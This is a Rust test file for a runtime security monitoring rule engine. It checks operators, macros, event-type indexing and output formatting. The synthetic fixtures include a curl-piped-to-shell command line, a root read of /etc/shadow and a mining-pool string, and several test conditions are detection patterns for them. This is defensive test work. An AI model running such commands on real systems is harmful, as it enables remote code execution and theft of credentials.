//! What each operator and construct means, evaluated on events.

mod common;

use common::Ev;
use monitor_rules::{LoadOptions, RuleSet, RuleSource};

fn set_with(prelude: &str, cond: &str) -> RuleSet {
    let text = format!(
        "{prelude}\n- rule: r\n  desc: d\n  output: o\n  priority: INFO\n  condition: {}\n",
        serde_quote(cond)
    );
    RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default())
        .unwrap_or_else(|e| panic!("{cond}: {e}"))
        .0
}

/// YAML double-quoted form of the condition, so any text fits.
fn serde_quote(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

/// `prelude` and one rule `r<i>` per condition, in order.
fn numbered_rules(prelude: &str, conds: &[&str]) -> RuleSet {
    let mut text = prelude.to_owned();
    for (i, c) in conds.iter().enumerate() {
        text.push_str(&format!(
            "- rule: r{i}\n  desc: d\n  output: o\n  priority: INFO\n  condition: {c}\n"
        ));
    }
    RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default())
        .unwrap()
        .0
}

fn eval(cond: &str, ev: &Ev) -> bool {
    eval_with("", cond, ev)
}

fn eval_with(prelude: &str, cond: &str, ev: &Ev) -> bool {
    let set = set_with(prelude, cond);
    let direct = set.rules()[0].matches(ev);
    // The indexed path must agree with the condition itself.
    let indexed = set.matching(ev).count() == 1;
    assert_eq!(direct, indexed, "index disagrees for {cond}");
    direct
}

fn proc_ev() -> Ev {
    Ev::new("execve")
        .s("proc.name", "bash")
        .s("proc.cmdline", "bash -c 'curl http://x | SH'")
        .s("proc.exepath", "/usr/bin/bash")
        .n("proc.pid", 42)
        .n("user.uid", 0)
        .b("proc.is_exe_upper_layer", true)
        .l("proc.anames", &["sshd", "systemd"])
        .s("fd.name", "/etc/shadow")
        .s("evt.arg.flags", "O_RDONLY|O_CLOEXEC")
        .n("evt.arg.mode", 420)
}

#[test]
fn equality_and_ordering() {
    let e = proc_ev();
    assert!(eval("proc.name = bash", &e));
    assert!(eval("proc.name == bash", &e));
    assert!(!eval("proc.name = sh", &e));
    assert!(eval("proc.name != sh", &e));
    assert!(!eval("proc.name != bash", &e));
    assert!(eval("proc.pid = 42", &e));
    assert!(eval("proc.pid != 41", &e));
    assert!(eval(
        "proc.pid < 43 and proc.pid <= 42 and proc.pid > 41 and proc.pid >= 42",
        &e
    ));
    assert!(!eval("proc.pid < 42", &e));
    assert!(!eval("proc.pid > 42", &e));
    assert!(eval("proc.pid = 0x2a", &e));
    assert!(eval("user.uid = 0", &e));
}

#[test]
fn string_operators() {
    let e = proc_ev();
    assert!(eval("proc.cmdline contains curl", &e));
    assert!(!eval("proc.cmdline contains CURL", &e));
    assert!(eval("proc.cmdline icontains CURL", &e));
    assert!(eval("proc.cmdline icontains 'x | sh'", &e));
    assert!(!eval("proc.cmdline icontains wget", &e));
    assert!(eval("proc.exepath startswith /usr/", &e));
    assert!(!eval("proc.exepath startswith /bin/", &e));
    assert!(eval("proc.exepath endswith /bash", &e));
    assert!(!eval("proc.exepath endswith /sh", &e));
    assert!(eval("fd.name glob '/etc/sh*'", &e));
    assert!(eval("fd.name glob '/etc/shado?'", &e));
    assert!(!eval("fd.name glob '/etc/p*'", &e));
    assert!(eval("fd.name glob '*'", &e));
    assert!(eval("proc.cmdline regex 'curl https?://'", &e));
    assert!(!eval("proc.cmdline regex '^curl'", &e));
    assert!(eval("proc.cmdline regex '^bash'", &e));
    assert!(eval("fd.name iglob '/ETC/SH*'", &e));
    assert!(!eval("fd.name glob '/ETC/SH*'", &e));
    // Byte operators take hex: "curl" is 6375726c, "bash" 62617368.
    assert!(eval("proc.cmdline bcontains 6375726c", &e));
    assert!(!eval("proc.cmdline bcontains 6375726d", &e));
    assert!(eval("proc.cmdline bstartswith 62617368", &e));
    assert!(!eval("proc.cmdline bstartswith 6375726c", &e));
}

#[test]
fn byte_operators_need_hex() {
    let text = "- rule: r\n  desc: d\n  output: o\n  priority: INFO\n  condition: proc.name bcontains xyz\n";
    let err =
        RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default()).unwrap_err();
    assert_eq!(
        err.to_string(),
        "t.yaml:5:34: type error: 'bcontains' needs bytes written in hex, not 'xyz'"
    );
}

#[test]
fn in_and_pmatch_and_intersects() {
    let e = proc_ev();
    assert!(eval("proc.name in (sh, bash, zsh)", &e));
    assert!(!eval("proc.name in (sh, zsh)", &e));
    assert!(!eval("proc.name in ()", &e));
    assert!(eval("proc.pid in (1, 42)", &e));
    assert!(eval("fd.name pmatch (/etc, /usr)", &e));
    assert!(eval("fd.name pmatch (/etc/shadow)", &e));
    assert!(eval("fd.name pmatch (/etc/)", &e));
    assert!(
        !eval("fd.name pmatch (/et, /usr)", &e),
        "pmatch matches whole path components"
    );
    assert!(
        eval("fd.name pmatch (/e*/sha*)", &e),
        "pmatch prefixes may hold globs"
    );
    assert!(!eval("fd.name pmatch (/usr/*)", &e));
    assert!(eval("proc.anames intersects (sshd, cron)", &e));
    assert!(!eval("proc.anames intersects (cron)", &e));
    assert!(
        eval("proc.anames in (sshd, systemd, init)", &e),
        "in on a list field means subset"
    );
    assert!(!eval("proc.anames in (sshd)", &e));
}

#[test]
fn exists_and_missing_fields() {
    let e = proc_ev();
    assert!(eval("proc.name exists", &e));
    assert!(!eval("proc.pname exists", &e));
    assert!(eval("not proc.pname exists", &e));
    // A comparison on a missing field is false, whatever the operator.
    assert!(!eval("proc.pname = x", &e));
    assert!(!eval("proc.pname != x", &e));
    assert!(eval("not proc.pname = x", &e));
    assert!(!eval("proc.ppid > 0", &e));
}

#[test]
fn booleans() {
    let e = proc_ev();
    assert!(eval("proc.is_exe_upper_layer = true", &e));
    assert!(!eval("proc.is_exe_upper_layer = false", &e));
    assert!(eval("proc.is_exe_upper_layer != false", &e));
}

#[test]
fn ancestors() {
    let e = proc_ev();
    assert!(eval("proc.aname[1] = sshd", &e));
    assert!(eval("proc.aname[2] = systemd", &e));
    assert!(!eval("proc.aname[3] exists", &e));
    assert!(eval("proc.aname[0] = bash", &e));
    // Without index: any ancestor.
    assert!(eval("proc.aname = systemd", &e));
    assert!(eval("proc.aname in (cron, sshd)", &e));
    assert!(!eval("proc.aname in (cron)", &e));
    assert!(eval("proc.aname startswith sys", &e));
    assert!(!eval("proc.aname = bash", &e));
}

#[test]
fn syscall_arguments() {
    let e = proc_ev();
    assert!(eval("evt.arg.flags contains O_RDONLY", &e));
    assert!(!eval("evt.arg.flags contains O_TRUNC", &e));
    assert!(eval("evt.arg.mode = 420", &e));
    assert!(eval("evt.arg.mode > 400", &e));
    assert!(eval("evt.arg.mode in (420, 511)", &e));
    assert!(
        eval("evt.arg.mode startswith 42", &e),
        "string operators see the number's text"
    );
    assert!(eval(
        "evt.arg[1] exists",
        &Ev::new("x").s("evt.arg[1]", "v")
    ));
}

#[test]
fn boolean_logic_and_precedence() {
    let e = proc_ev();
    assert!(eval(
        "proc.name = sh or proc.name = bash and user.uid = 0",
        &e
    ));
    assert!(!eval(
        "(proc.name = sh or proc.name = bash) and user.uid = 1",
        &e
    ));
    assert!(eval(
        "proc.name = sh or proc.name = bash and not user.uid = 1",
        &e
    ));
    assert!(eval("not not proc.name = bash", &e));
    assert!(eval("not (proc.name = sh and user.uid = 0)", &e));
}

#[test]
fn macros_and_lists() {
    let prelude = "- list: shells\n  items: [sh, bash]\n- list: more_shells\n  items: [shells, zsh, '\"odd name\"']\n- macro: shell\n  condition: proc.name in (more_shells)\n- macro: root\n  condition: user.uid = 0";
    let e = proc_ev();
    assert!(eval_with(prelude, "shell and root", &e));
    assert!(eval_with(prelude, "proc.name in (shells)", &e));
    assert!(!eval_with(prelude, "shell and not root", &e));
    assert!(eval_with(
        prelude,
        "proc.name in (more_shells)",
        &Ev::new("execve").s("proc.name", "odd name")
    ));
    // A name that is not a list is a literal.
    assert!(eval_with(
        prelude,
        "proc.name in (not_a_list)",
        &Ev::new("execve").s("proc.name", "not_a_list")
    ));
}

#[test]
fn quoted_values() {
    let e = Ev::new("openat")
        .s("fd.name", "/tmp/a b\"c")
        .s("proc.name", "<NA>");
    assert!(eval(r#"fd.name = '/tmp/a b"c'"#, &e));
    assert!(eval(r#"fd.name = "/tmp/a b\"c""#, &e));
    assert!(eval(r#"proc.name in ("<NA>", "N/A")"#, &e));
}

#[test]
fn event_type_index() {
    let set = set_with("", "evt.type in (open, openat) and fd.name startswith /etc");
    assert_eq!(set.candidates_for("openat"), 1);
    assert_eq!(set.candidates_for("execve"), 0);
    let types: Vec<_> = set.rules()[0].evt_types().unwrap().collect();
    assert_eq!(types, ["open", "openat"]);
    // Negation: anything but execve can match, so the rule is type-independent.
    let set = set_with("", "evt.type != execve and proc.name = x");
    assert!(set.rules()[0].evt_types().is_none());
    assert_eq!(set.candidates_for("openat"), 1);
    // `or` with a type-independent branch is type-independent.
    let set = set_with("", "evt.type = execve or proc.name = x");
    assert!(set.rules()[0].evt_types().is_none());
    // not (not in) narrows again; and-ing two type sets intersects them.
    let set = set_with("", "not evt.type != mount and proc.name = x");
    assert_eq!(
        set.rules()[0].evt_types().unwrap().collect::<Vec<_>>(),
        ["mount"]
    );
    let set = set_with(
        "",
        "evt.type in (a, b, c) and evt.type in (b, c, d) and not evt.type = c",
    );
    assert_eq!(
        set.rules()[0].evt_types().unwrap().collect::<Vec<_>>(),
        ["b"]
    );
    // Events of other types are never checked, even if the rest would match.
    let set = set_with("", "evt.type = open and proc.name = bash");
    assert_eq!(set.matching(&proc_ev()).count(), 0);
}

#[test]
fn output_formatting() {
    let text = "- rule: r\n  desc: d\n  priority: WARNING\n  condition: evt.type = execve\n  output: \"Shell %proc.name (%proc.aname[1]) uid=%user.uid plugin=%evt.pluginname %(proc.pid) 100%% done. %proc.pname\"\n";
    let (set, _) =
        RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default()).unwrap();
    let r = &set.rules()[0];
    assert_eq!(
        r.format_output(&proc_ev()),
        "Shell bash (sshd) uid=0 plugin=<NA> 42 100% done. <NA>"
    );
    let fields: Vec<_> = r
        .output_fields(&proc_ev())
        .into_iter()
        .map(|(n, v)| (n.to_owned(), v.map(|v| v.to_string())))
        .collect();
    assert_eq!(
        fields,
        [
            ("proc.name".to_owned(), Some("bash".to_owned())),
            ("proc.aname[1]".to_owned(), Some("sshd".to_owned())),
            ("user.uid".to_owned(), Some("0".to_owned())),
            ("evt.pluginname".to_owned(), None),
            ("proc.pid".to_owned(), Some("42".to_owned())),
            ("proc.pname".to_owned(), None),
        ]
    );
    assert_eq!(r.priority().as_str(), "Warning");
}

#[test]
fn disabled_rules_do_not_match_but_are_listed() {
    let text = "- rule: r\n  desc: d\n  output: o\n  priority: INFO\n  condition: evt.type = execve\n  enabled: false\n";
    let (set, report) =
        RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default()).unwrap();
    assert_eq!((report.loaded, report.enabled), (1, 0));
    assert_eq!(set.matching(&proc_ev()).count(), 0);
    assert!(!set.rules()[0].enabled());
}

#[test]
fn other_sources_and_unsupported_fields_are_skipped() {
    let text = "- rule: k8s\n  desc: d\n  output: o\n  priority: INFO\n  source: k8s_audit\n  condition: ka.verb = create\n- rule: plugin\n  desc: d\n  output: o\n  priority: INFO\n  condition: evt.type = execve and evt.pluginname != x\n- rule: ok\n  desc: d\n  output: o\n  priority: INFO\n  condition: evt.type = execve\n";
    let (set, report) =
        RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default()).unwrap();
    assert_eq!(report.loaded, 1);
    let lines: Vec<_> = report.skipped.iter().map(|s| s.to_string()).collect();
    assert_eq!(
        lines,
        [
            "t.yaml:1:9: rule 'k8s' skipped: source 'k8s_audit' is not supported by vigil",
            "t.yaml:7:9: rule 'plugin' skipped: field 'evt.pluginname' is not supported by vigil",
        ]
    );
    assert_eq!(set.rules()[0].name(), "ok");
    let err =
        RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::strict()).unwrap_err();
    assert_eq!(err.diagnostics().len(), 2);
    assert!(err.to_string().contains(
        "t.yaml:7:9: rule 'plugin' is not supported: field 'evt.pluginname' is not supported by vigil"
    ));
}

#[test]
fn skip_if_unknown_filter() {
    let text = "- rule: r\n  desc: d\n  output: o\n  priority: INFO\n  skip-if-unknown-filter: true\n  condition: evt.type = execve and proc.whatever = 1\n";
    let (_, report) =
        RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default()).unwrap();
    assert_eq!(report.loaded, 0);
    assert_eq!(report.skipped.len(), 1);
}

#[test]
fn shared_checks_across_rules_agree_with_each_rule_alone() {
    // Several rules share checks (memoized once per event); the indexed,
    // memoized result must equal evaluating each rule on its own.
    let conds = [
        "evt.type = execve and c and proc.name in (bash, sh)",
        "evt.type = execve and c and not proc.name in (bash, sh)",
        "evt.type = execve and not c and proc.name in (bash, sh)",
        "evt.type = execve and (c or proc.name in (bash, sh)) and user.uid = 0",
        "evt.type = execve and proc.name in (sh, bash) and user.uid != 0",
        "proc.name in (bash, sh) or c",
    ];
    let set = numbered_rules("- macro: c\n  condition: container.id != host\n", &conds);
    for name in ["bash", "sh", "zsh"] {
        for cid in ["host", "abc"] {
            for uid in [0, 1] {
                for ty in ["execve", "openat"] {
                    let ev = Ev::new(ty)
                        .s("proc.name", name)
                        .s("container.id", cid)
                        .n("user.uid", uid);
                    let got: Vec<_> = set.matching(&ev).map(|r| r.name().to_owned()).collect();
                    let want: Vec<_> = set
                        .rules()
                        .iter()
                        .filter(|r| r.matches(&ev))
                        .map(|r| r.name().to_owned())
                        .collect();
                    assert_eq!(got, want, "{ev:?}");
                }
            }
        }
    }
    // Sanity: the shared checks really fire in different combinations.
    let ev = Ev::new("execve")
        .s("proc.name", "bash")
        .s("container.id", "abc")
        .n("user.uid", 0);
    let got: Vec<_> = set.matching(&ev).map(|r| r.name().to_owned()).collect();
    assert_eq!(got, ["r0", "r3", "r5"]);
}

#[test]
fn value_split_keeps_order_and_handles_missing_or_odd_values() {
    // Three rules require proc.name values (the bucket is split on it), two
    // do not; candidates must still come out in definition order.
    let conds = [
        "evt.type = execve and proc.name = a",
        "evt.type = execve and user.uid = 0",
        "evt.type = execve and proc.name in (a, b) and user.uid = 0",
        "evt.type = execve and not proc.name = a",
        "evt.type = execve and proc.name in (b, 7)",
    ];
    let set = numbered_rules("", &conds);
    let names = |ev: &Ev| {
        set.matching(ev)
            .map(|r| r.name().to_owned())
            .collect::<Vec<_>>()
    };
    let direct = |ev: &Ev| {
        set.rules()
            .iter()
            .filter(|r| r.matches(ev))
            .map(|r| r.name().to_owned())
            .collect::<Vec<_>>()
    };
    let cases = [
        Ev::new("execve").s("proc.name", "a").n("user.uid", 0),
        Ev::new("execve").s("proc.name", "b").n("user.uid", 0),
        Ev::new("execve").s("proc.name", "c").n("user.uid", 0),
        Ev::new("execve").n("user.uid", 0),
        // A numeric value where a string is expected still evaluates right.
        Ev::new("execve").n("proc.name", 7).n("user.uid", 1),
    ];
    for ev in &cases {
        assert_eq!(names(ev), direct(ev), "{ev:?}");
    }
    assert_eq!(names(&cases[0]), ["r0", "r1", "r2"]);
    assert_eq!(names(&cases[1]), ["r1", "r2", "r3", "r4"]);
    assert_eq!(
        names(&cases[3]),
        ["r1", "r3"],
        "a missing field makes `not f = x` true"
    );
    assert_eq!(names(&cases[4]), ["r3", "r4"]);
}

#[test]
fn field_to_field_comparisons_with_val() {
    let e = Ev::new("ptrace")
        .s("proc.name", "gdb")
        .s("proc.pname", "gdb")
        .s("proc.exepath", "/usr/bin/gdb")
        .n("proc.pid", 10)
        .n("proc.ppid", 9)
        .n("evt.arg.pid", 12);
    assert!(eval("proc.name = val(proc.pname)", &e));
    assert!(!eval("proc.name != val(proc.pname)", &e));
    assert!(eval("proc.pid != val(proc.ppid)", &e));
    assert!(eval(
        "proc.pid > val(proc.ppid) and proc.ppid < val(proc.pid)",
        &e
    ));
    assert!(
        eval("evt.arg.pid != val(proc.pid)", &e),
        "ptrace of another process"
    );
    assert!(eval("evt.arg.pid > val(proc.pid)", &e));
    assert!(eval("proc.exepath endswith val(proc.name)", &e));
    assert!(eval("proc.exepath contains val(proc.pname)", &e));
    assert!(!eval("proc.exepath startswith val(proc.name)", &e));
    // A missing operand field makes the comparison false.
    assert!(!eval("proc.name = val(container.name)", &e));
    assert!(eval("not proc.name = val(container.name)", &e));
}

#[test]
fn val_errors_and_skips() {
    let load = |cond: &str| {
        let text =
            format!("- rule: r\n  desc: d\n  output: o\n  priority: INFO\n  condition: {cond}\n");
        RuleSet::load(&[RuleSource::new("t.yaml", text)], &LoadOptions::default())
    };
    let err = load("proc.pid = val(proc.name)").unwrap_err();
    let d = &err.diagnostics()[0];
    assert_eq!(
        (d.kind, d.pos.line, d.pos.col),
        (monitor_rules::DiagKind::Type, 5, 23),
        "{d}"
    );
    assert!(d.message.contains("numeric versus string"), "{d}");
    let err = load("proc.name in val(proc.pname)").unwrap_err();
    assert!(err.to_string().contains("expected '('"), "{err}");
    let err = load("proc.name glob val(proc.pname)").unwrap_err();
    assert!(
        err.to_string()
            .contains("operator not supported with val()"),
        "{err}"
    );
    let err = load("proc.name = val(proc.nope)").unwrap_err();
    assert_eq!(err.to_string(), "t.yaml:5:30: unknown field 'proc.nope'");
    let (_, report) = load("proc.name = val(evt.pluginname)").unwrap();
    assert_eq!(
        report.skipped[0].reason,
        "field 'evt.pluginname' is not supported by vigil"
    );
}

#[test]
fn merged_string_alternatives_mean_the_same_as_the_or() {
    // An `or` of prefix/suffix/substring tests on one field is evaluated
    // as one merged check; it must mean exactly the `or` of its terms.
    let alternatives = [
        "proc.exepath startswith /tmp/",
        "proc.exepath startswith /usr/",
        "proc.exepath endswith /bash",
        "proc.exepath contains bin/ba",
        "proc.exepath contains opt/",
        "proc.cmdline icontains SH",
        "proc.cmdline icontains stratum+tcp",
        "proc.anames startswith ssh",
        "fd.name glob /etc/sha*",
        "container.name startswith web",
    ];
    let events = [
        proc_ev(),
        Ev::new("execve")
            .s("proc.exepath", "/tmp/x")
            .s("proc.cmdline", "x"),
        Ev::new("execve").s("proc.exepath", "/opt/bash"),
        Ev::new("execve").s("proc.cmdline", "Stratum+TCP://pool"),
        Ev::new("execve").l("proc.anames", &["init", "sshd"]),
        Ev::new("execve").n("proc.exepath", 7),
        Ev::new("execve"),
    ];
    // Every pair and a long run, plain, negated and inside an and.
    let mut conds = Vec::new();
    for (i, a) in alternatives.iter().enumerate() {
        for b in &alternatives[i + 1..] {
            conds.push(vec![*a, *b]);
        }
    }
    conds.push(alternatives.to_vec());
    for terms in conds {
        let or = terms.join(" or ");
        for ev in &events {
            let want = terms.iter().any(|t| eval(t, ev));
            assert_eq!(eval(&or, ev), want, "{or} on {ev:?}");
            assert_eq!(eval(&format!("not ({or})"), ev), !want, "not ({or})");
            let and = format!("proc.name exists and ({or})");
            let want_and = eval("proc.name exists", ev) && want;
            assert_eq!(eval(&and, ev), want_and, "{and} on {ev:?}");
        }
    }
}

#[test]
fn equal_merged_alternatives_in_several_rules_share_correctly() {
    let conds = [
        "evt.type = execve and (proc.exepath startswith /tmp/ or proc.exepath startswith /dev/shm/)",
        "evt.type = execve and (proc.exepath startswith /dev/shm/ or proc.exepath startswith /tmp/) and user.uid = 0",
        "evt.type = execve and (proc.exepath startswith /tmp/ or proc.exepath endswith /sh)",
        "evt.type = execve and not (proc.exepath startswith /tmp/ or proc.exepath startswith /dev/shm/)",
    ];
    let set = numbered_rules("", &conds);
    for path in ["/tmp/a", "/dev/shm/b", "/bin/sh", "/usr/bin/x"] {
        for uid in [0, 1] {
            let ev = Ev::new("execve").s("proc.exepath", path).n("user.uid", uid);
            let got: Vec<_> = set.matching(&ev).map(|r| r.name().to_owned()).collect();
            let want: Vec<_> = conds
                .iter()
                .enumerate()
                .filter(|(_, c)| eval(c, &ev))
                .map(|(i, _)| format!("r{i}"))
                .collect();
            assert_eq!(got, want, "{ev:?}");
        }
    }
}
